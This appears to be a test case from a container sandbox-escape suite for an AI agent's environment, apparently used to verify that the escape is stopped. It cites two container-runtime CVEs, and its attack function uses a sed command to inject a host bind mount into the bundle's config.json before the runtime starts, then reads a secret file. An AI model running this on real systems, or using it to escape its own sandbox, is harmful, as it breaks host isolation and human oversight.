"""A low-level runtime that mounts one directory of the host more."""

from bypass import attested

SOURCE = "CVE-2024-0132, CVE-2025-23359: mounts that a runtime between adds"
WAY = "race"
STOPPED = attested("/home/agent")


def attack(t):
    bind = '{"destination":"/home/agent","type":"bind","source":"/mnt/host","options":["bind"]}'
    t.before_low("sed -E -i 's#\"mounts\": ?\\[#&%s,#' %s/config.json" % (bind, t.bundle))
    return t.leaked(t.run("cat /home/agent/secret"))
